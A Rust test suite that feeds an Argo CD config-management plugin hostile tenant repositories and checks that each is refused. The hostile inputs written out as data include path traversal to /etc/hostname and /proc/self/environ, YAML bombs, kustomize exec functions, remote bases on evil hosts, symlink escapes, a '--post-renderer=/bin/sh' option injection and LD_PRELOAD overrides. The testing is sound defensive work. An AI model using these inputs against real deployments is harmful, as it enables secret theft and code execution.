//! Repositories and Applications of hostile tenants, in the real argocd-cmp-server: each gets an error, and nothing else.
//!
//! The numbers are those of the threats of boundary 1 in `docs/threat-model.md`: what a tenant controls.

use std::fs;
use std::io::Write as _;
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Value, json};

#[path = "support/peers.rs"]
mod peers;
#[path = "support/plugin.rs"]
mod plugin;

use plugin::{Operator, Plugin, Sent, policy};

const SECRET: &str = "apiVersion: v1
kind: Secret
metadata: {name: token}
stringData: {token: \"ref+vault://kv/shop/token#/value\"}
";

/// The files of a repository whose Application is `app`, what its Application chooses, and what it is told.
struct Hostile {
    name: &'static str,
    files: String,
    parameters: Value,
    told: &'static str,
}

fn hostile(name: &'static str, files: &str, told: &'static str) -> Hostile {
    Hostile { name, files: files.replace("SECRET\n", SECRET), parameters: json!([]), told }
}

fn choosing(name: &'static str, parameters: Value, told: &'static str) -> Hostile {
    let files = format!("== .sealref.yaml\nSETTINGS\n== app/secret.yaml\n{SECRET}");
    Hostile { name, files, parameters, told }
}

fn resources(text: &str) -> String {
    format!("== .sealref.yaml\nSETTINGS\n== app/kustomization.yaml\n{text}== app/secret.yaml\n{SECRET}")
}

fn chart(text: &str) -> String {
    format!("== .sealref.yaml\nSETTINGS\n== app/Chart.yaml\napiVersion: v2\nname: c\nversion: 1.0.0\n{text}")
}

/// Everything but links, which the server itself refuses to unpack. A row a line.
#[rustfmt::skip]
fn repositories() -> Vec<Hostile> {
    let function = "== app/run.yaml\napiVersion: a/v1\nkind: B\nmetadata:\n  name: run\n  annotations: {config.kubernetes.io/function: \"exec: {path: ./run.sh}\"}\n== app/run.sh\n#!/bin/sh\n/bin/touch /tmp/sealref-hostile-ran\n";
    vec![
        // T1: what belongs to others
        hostile("another team's path", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{}", SECRET.replace("kv/shop", "kv/bank")), "exit status 3"),
        hostile("a path that climbs", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{}", SECRET.replace("kv/shop", "kv/shop/../bank")), "error: "),
        hostile("another namespace", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{}", SECRET.replace("{name: token}", "{name: token, namespace: bank}")), "exit status 3"),
        // T2: redirected credentials
        choosing("a parameter sets the policy", json!([{"name": "policy", "string": "app/mine.yaml"}]), "exit status 3: error: the parameter \"policy\" is not one"),
        choosing("a parameter sets the certificate", json!([{"name": "certificate", "string": "mine.pem"}]), "exit status 3: error: the parameter \"certificate\""),
        choosing("a parameter sets the sealing key", json!([{"name": "sealing-key", "string": "mine.key"}]), "exit status 3: error: the parameter \"sealing-key\""),
        choosing("a parameter sets an address", json!([{"name": "address", "string": "http://127.0.0.1"}]), "exit status 3: error: the parameter \"address\""),
        choosing("a parameter sets the namespace", json!([{"name": "namespace", "string": "bank"}]), "exit status 3: error: the parameter \"namespace\""),
        choosing("a parameter sets the program", json!([{"name": "builder", "string": "/bin/sh"}]), "error: no builder is called \"/bin/sh\""),
        choosing("a parameter sets a cluster", json!([{"name": "cluster", "string": "other"}]), "error: "),
        hostile("settings set the certificate", &format!("== app/.sealref.yaml\napiVersion: sealref.dev/v1alpha1\nkind: SecretTransform\nspec: {{sealing: {{certificate: mine.pem}}}}\n== app/a.yaml\n{SECRET}"), "exit status 3"),
        hostile("an address in a reference", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{}", SECRET.replace("token#/", "token?address=http://127.0.0.1:PORT#/")), "exit status 3: error: app/a.yaml:4 Secret token, stringData.token: project \"shop\" may not read"),
        // T3: files
        hostile("a file above the kustomization", &resources("secretGenerator: [{name: a, files: [../../../../../../etc/hostname]}]\nresources: [secret.yaml]\n"), "kustomize failed"),
        hostile("a file of the machine", &resources("secretGenerator: [{name: a, files: [/etc/hostname]}]\nresources: [secret.yaml]\n"), "kustomize failed"),
        hostile("a base above the repository", &resources("resources: [../../../../../../etc]\n"), "exit status 3: error: app/kustomization.yaml:1: \"../../../../../../etc\" leads out of the repository"),
        hostile("a base of the machine", &resources("resources: [/etc]\n"), "exit status 3: error: app/kustomization.yaml:1: \"/etc\" leads out of the repository"),
        hostile("a reference to a file above", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{}", SECRET.replace("vault://kv/shop/token#/value", "file://../../../../etc/hostname")), "error: "),
        // T4: files whose content would show in an error
        hostile("a file that is no YAML", &resources("resources: [secret.yaml, broken.yaml]\n").replace("== app/secret.yaml", "== app/broken.yaml\nkind: Secret\nstringData: {a: plain-s3cret\n== app/secret.yaml"), "error: app/broken.yaml: kustomize failed"),
        hostile("values that are no YAML", &chart(&format!("== app/values.yaml\na: {{plain-s3cret\n== app/templates/a.yaml\n{SECRET}")), "helm failed"),
        // T5: bombs
        hostile("a bomb of aliases", &format!("== app/a.yaml\napiVersion: v1\nkind: Secret\nmetadata: {{name: a}}\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n{}", (1..9).map(|n| format!("a{n}: &a{n} [{}]\n", vec![format!("*a{}", n - 1); 10].join(", "))).collect::<Vec<_>>().concat()), "error: "),
        hostile("a bomb of depth", &format!("== app/a.yaml\napiVersion: v1\nkind: Secret\nmetadata: {{name: a}}\na: {}\n", "[".repeat(100_000)), "error: app/a.yaml:"),
        hostile("a chart that never ends", &chart("== app/templates/a.yaml\n{{ define \"a\" }}{{ include \"a\" . }}{{ end }}{{ include \"a\" . }}\n"), "helm failed"),
        // T8, T10: what reads in the cluster
        hostile("an ExternalSecret of another team's", "== .sealref.yaml\nSETTINGS\n== app/a.yaml\napiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata: {name: a}\nspec:\n  secretStoreRef: {kind: ClusterSecretStore, name: vault}\n  data: [{secretKey: a, remoteRef: {key: bank/token, property: value}}]\n", "exit status 3"),
        hostile("a store that was not granted", &format!("== app/.sealref.yaml\napiVersion: sealref.dev/v1alpha1\nkind: SecretTransform\nspec: {{stores: [{{match: {{scheme: vault}}, use: {{kind: ClusterSecretStore, name: other}}}}]}}\n== app/a.yaml\n{SECRET}"), "exit status 3"),
        // T9: a wider seal
        hostile("a scope by annotation", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{}", SECRET.replace("{name: token}", "{name: token, annotations: {sealedsecrets.bitnami.com/cluster-wide: \"true\"}}")), "error: "),
        // T11: what a terminal or a log acts on
        hostile("a name with controls", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{}", SECRET.replace("{name: token}", "{name: \"\\e[31mred\\u202e\"}")), "error: "),
        hostile("a file with controls in its name", &resources("resources: [\"\\e[31mred.yaml\"]\n"), "\\u{1b}[31mred.yaml"),
        // T12: programs
        hostile("a kustomization with an exec function", &(resources("resources: [secret.yaml]\ntransformers: [run.yaml]\n") + function), "kustomize failed: a function or plugin is listed"),
        hostile("a kustomization with an exec generator", &(resources("resources: [secret.yaml]\ngenerators: [run.yaml]\n") + function), "kustomize failed: a function or plugin is listed"),
        hostile("a kustomization with an exec validator", &(resources("resources: [secret.yaml]\nvalidators: [run.yaml]\n") + function), "kustomize failed: a function or plugin is listed"),
        hostile("a kustomization with a container", &(resources("resources: [secret.yaml]\ntransformers: [run.yaml]\n") + &function.replace("exec: {path: ./run.sh}", "container: {image: evil}")), "kustomize failed: a function or plugin is listed"),
        hostile("a kustomization that inflates a chart", &resources("helmCharts: [{name: a, releaseName: a}]\nresources: [secret.yaml]\n"), "kustomize failed: it inflates a Helm chart"),
        hostile("a remote base", &resources("resources: [\"https://127.0.0.1:PORT/repository.git//base?ref=main\"]\n"), "exit status 3: error: app/kustomization.yaml:1: a URL is named, and nothing is downloaded"),
        hostile("a remote base over ssh", &resources("resources: [\"git@git.example:evil/base.git\"]\n"), "exit status 3: error: app/kustomization.yaml:1: \"git@git.example:evil/base.git\" is not in the repository"),
        hostile("a remote base by its short name", &resources("resources: [\"github.com/evil/base?ref=main\"]\n"), "exit status 3: error: app/kustomization.yaml:1: \"github.com/evil/base?ref=main\" is not in the repository"),
        hostile("a remote base of the machine", &resources("resources: [\"file:///etc//x?ref=main\"]\n"), "exit status 3: error: app/kustomization.yaml:1: \"file:///etc//x?ref=main\" is not in the repository"),
        hostile("a remote file", &resources("resources: [\"HTTP://127.0.0.1:PORT/a.yaml\"]\n"), "exit status 3: error: app/kustomization.yaml:1: a URL is named"),
        hostile("a remote file of a generator", &resources("secretGenerator: [{name: a, files: [\"x=http://127.0.0.1:PORT/a\"]}]\n"), "exit status 3: error: app/kustomization.yaml:1: a URL is named"),
        hostile("a remote patch", &resources("patches: [{path: \"http://127.0.0.1:PORT/a.yaml\"}]\nresources: [secret.yaml]\n"), "exit status 3: error: app/kustomization.yaml:1: a URL is named"),
        hostile("a remote patch that is hidden", &resources("commonAnnotations: &a {path: \"http://127.0.0.1:PORT/a.yaml\"}\npatches: [{<<: *a}]\nresources: [secret.yaml]\n"), "exit status 3: error: app/kustomization.yaml:1: a URL is named"),
        hostile("a remote schema", &resources("openapi: {path: \"http://127.0.0.1:PORT/a.json\"}\nresources: [secret.yaml]\n"), "exit status 3: error: app/kustomization.yaml:1: a URL is named"),
        hostile("a remote patch of a transformer", &(resources("resources: [secret.yaml]\ntransformers: [t.yaml]\n") + "== app/t.yaml\napiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: t}\npath: \"http://127.0.0.1:PORT/a.yaml\"\n"), "exit status 3: error: app/t.yaml:4: a URL is named"),
        hostile("a remote patch of an inline transformer", &resources("resources: [secret.yaml]\ntransformers:\n  - |\n    apiVersion: builtin\n    kind: PatchTransformer\n    metadata: {name: t}\n    path: http://127.0.0.1:PORT/a.yaml\n"), "a URL is named"),
        hostile("a remote patch in a base", &(resources("resources: [base]\n") + "== app/base/kustomization.yaml\npatches: [{path: \"http://127.0.0.1:PORT/a.yaml\"}]\n"), "exit status 3: error: app/base/kustomization.yaml:1: a URL is named"),
        Hostile {parameters: json!([{"name": "values-files", "array": ["../../../../etc/hostname"]}]), ..hostile("values of the machine", &chart("== app/templates/a.yaml\nSECRET\n"), "exit status 3: error: the file of values \"../../../../etc/hostname\" is not below") },
        Hostile {parameters: json!([{"name": "values-files", "array": ["/etc/hostname"]}]), ..hostile("values by an absolute path", &chart("== app/templates/a.yaml\nSECRET\n"), "exit status 3: error: the file of values \"/etc/hostname\" is not below") },
        Hostile {parameters: json!([{"name": "values-files", "array": ["http://127.0.0.1:PORT/values.yaml"]}]), ..hostile("values from a server", &chart("== app/templates/a.yaml\nSECRET\n"), "exit status 3: error: the file of values") },
        Hostile {parameters: json!([{"name": "values-files", "array": ["a,/etc/hostname"]}]), ..hostile("values behind a comma", &chart("== app/templates/a.yaml\nSECRET\n"), "exit status 3: error: the file of values") },
        Hostile {parameters: json!([{"name": "release-name", "string": "--post-renderer=/bin/sh"}]), ..hostile("a release that is an option", &chart("== app/templates/a.yaml\nSECRET\n"), "error: the name of the release is not valid") },
        hostile("a dependency on a server", &chart("dependencies: [{name: d, version: 1.0.0, repository: \"http://127.0.0.1:PORT\"}]\n== app/templates/a.yaml\nSECRET\n"), "helm failed: a dependency is not in charts/"),
        hostile("a layer that builds configurations", &(resources("resources: [secret.yaml]\ngenerators: [t]\n") + "== app/t/kustomization.yaml\nresources: [c.yaml]\n== app/t/c.yaml\napiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: t}\nname: stolen\nfiles: [\"x=http://127.0.0.1:PORT/a\"]\n"), "exit status 3: error: app/kustomization.yaml:2: \"t\" is a folder that builds configurations"),
        hostile("a list whose name has other letters", &(resources("Resources: [base]\n") + "== app/base/kustomization.yaml\nresources: [\"http://127.0.0.1:PORT/a.yaml\"]\n"), "exit status 3: error: app/kustomization.yaml:1: kustomize reads \"Resources\" as \"resources\""),
        hostile("a URL in base64", &resources("secretGenerator: [{name: a, files: [!!binary eD1odHRwOi8vMTI3LjAuMC4xL2E=]}]\nresources: [secret.yaml]\n"), "exit status 3: error: app/kustomization.yaml:1: a text is written as !!binary"),
        hostile("a schema of values on a server", &chart(&format!("== app/values.schema.json\n{{\"$ref\": \"http://127.0.0.1:PORT/a.json\"}}\n== app/templates/a.yaml\n{}", SECRET.replace("kv/shop", "kv/bank"))), "exit status 3"),
        // T13: names that are taken
        hostile("two objects of one name", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{SECRET}== app/b.yaml\n{SECRET}"), "error: "),
        // The promises: what is no Secret of ours to let through
        hostile("a plaintext Secret", "== .sealref.yaml\nSETTINGS\n== app/a.yaml\napiVersion: v1\nkind: Secret\nmetadata: {name: a}\nstringData: {b: plain-s3cret}\n", "error: "),
        hostile("a plaintext Secret that says it is Helm's", "== .sealref.yaml\nSETTINGS\n== app/a.yaml\napiVersion: v1\nkind: Secret\nmetadata: {name: a}\ntype: helm.sh/release.v1\nstringData: {b: plain-s3cret}\n", "error: "),
        hostile("a store of its own", &format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{SECRET}== app/b.yaml\napiVersion: external-secrets.io/v1\nkind: ClusterSecretStore\nmetadata: {{name: mine}}\nspec: {{provider: {{vault: {{server: \"https://evil.example\"}}}}}}\n"), "exit status 3"),
    ]
}

/// A server on loopback that counts who comes.
fn trap() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, visits) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let counted = Arc::clone(&visits);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ =
                stream.and_then(|mut stream| stream.write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n"));
        }
    });
    (port, visits)
}

#[test]
fn each_gets_an_error_and_nothing_else() {
    let Some(plugin) = Plugin::shipped() else { return };
    let (port, visits) = trap();
    let port = port.to_string();
    let mut wrong = vec![];
    for Hostile { name, files, parameters, told } in repositories() {
        let parameters = serde_json::from_str(&parameters.to_string().replace("PORT", &port)).unwrap();
        let sent = Sent::new("shop", "app", &files.replace("PORT", &port)).choosing(&parameters);
        match plugin.generate(&sent) {
            Ok(objects) => wrong.push(format!("{name}: rendered {objects:?}")),
            Err(found) if !found.contains(told) => wrong.push(format!("{name}: expected {told}, found {found}")),
            Err(found) if found.contains(['\u{1b}', '\u{202e}']) => wrong.push(format!("{name}: {found:?}")),
            Err(found) if found.contains("s3cret") => wrong.push(format!("{name}: {found}")),
            Err(_) => {}
        }
        // The server throws standard output away when we fail; whoever runs us may not
        let output = plugin.operator.sealref(&sent.folder(), &["cmp", "generate"], &sent.variables);
        if output.status.success() || !output.stdout.is_empty() {
            wrong.push(format!("{name}: something stands on standard output"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
    assert_eq!(visits.load(Ordering::SeqCst), 0, "something was downloaded");
    assert!(!std::path::Path::new("/tmp/sealref-hostile-ran").exists());
    let log = plugin.log();
    let hostname = fs::read_to_string("/etc/hostname").unwrap_or_else(|_| "none".to_owned());
    assert!(!log.contains("s3cret") && !log.contains(&format!(" {}", hostname.trim())), "a file or value was told");
}

/// What the server refuses to unpack we refuse too: links that lead out (CVE-2022-24348, CVE-2022-24904).
#[test]
fn links_that_lead_out_are_refused_by_the_server_and_by_us_t3() {
    let Some(plugin) = Plugin::shipped() else { return };
    for (kind, files) in [
        ("kustomization", resources("resources: [secret.yaml]\n")),
        ("chart", chart(&format!("== app/templates/a.yaml\n{SECRET}"))),
        ("manifests", format!("== .sealref.yaml\nSETTINGS\n== app/a.yaml\n{SECRET}")),
    ] {
        for target in ["/etc/hostname", "../../../../../../../../etc", "/proc/self/environ"] {
            let sent = Sent::new("shop", "app", &files);
            symlink(target, sent.folder().join("link.txt")).unwrap();
            // It takes absolute targets for those of the archive, where they lead nowhere
            assert!(!target.starts_with("..") || plugin.generate(&sent).is_err(), "{kind}: the server unpacks it");
            let output = plugin.operator.sealref(&sent.folder(), &["cmp", "generate"], &sent.variables);
            let told = String::from_utf8_lossy(&output.stderr);
            assert_eq!((output.status.code(), output.stdout.len()), (Some(3), 0), "{kind}: {told}");
            assert!(told.starts_with("error: \"app/link.txt\" is a link that leads out of the repository"), "{told}");
        }
    }
}

/// Whatever a tenant says in an Application, the same bytes come out and nobody else is asked (T2, I10).
#[test]
fn variables_of_a_tenant_change_nothing_t2_i10() {
    let Some(policy) = policy() else { return };
    let operator = Operator::new(&policy);
    let (port, visits) = trap();
    let evil = operator.folder().join("evil.yaml");
    fs::write(&evil, policy.replace("kv/{project}/**", "kv/**")).unwrap();
    let files = format!("== .sealref.yaml\nSETTINGS\n== app/secret.yaml\n{SECRET}");
    let plain = Sent::new("shop", "app", &files);
    let generate = |sent: &Sent| operator.sealref(&sent.folder(), &["cmp", "generate"], &sent.variables);
    let expected = generate(&plain);
    assert!(expected.status.success(), "{}", String::from_utf8_lossy(&expected.stderr));
    let address = format!("http://127.0.0.1:{port}");
    let settings = [
        ("SEALREF_POLICY", evil.to_str().unwrap()),
        ("SEALREF_ENVIRONMENT", "other"),
        ("SEALREF_CLUSTER", "other"),
        ("SEALREF_SEALING_KEY", "/etc/hostname"),
        ("SEALREF_IDENTITY", "/etc/hostname"),
        ("POLICY", evil.to_str().unwrap()),
        ("CERTIFICATE", "/etc/hostname"),
        ("NAMESPACE", "bank"),
        ("ARGOCD_APP_PROJECT_NAME", "bank"),
        ("VAULT_ADDR", &address),
        ("VAULT_TOKEN", "token-s3cret"),
        ("HTTPS_PROXY", &address),
        ("PATH", "/tmp"),
        ("LD_PRELOAD", "/tmp/evil.so"),
    ];
    for prefix in ["ARGOCD_ENV_", "PARAM_"] {
        let mut sent = Sent::new("shop", "app", &files);
        sent.variables.extend(settings.iter().map(|(name, value)| format!("{prefix}{name}={value}")));
        let found = generate(&sent);
        assert_eq!((found.stdout, found.stderr), (expected.stdout.clone(), expected.stderr.clone()), "{prefix}");
    }
    for (name, value) in settings {
        let chosen = json!([{"name": name.to_lowercase().replace('_', "-"), "string": value}]);
        let found = generate(&Sent::new("shop", "app", &files).choosing(&chosen));
        assert_eq!((found.status.code(), found.stdout.len()), (Some(3), 0), "{name}");
    }
    assert_eq!(visits.load(Ordering::SeqCst), 0);
}
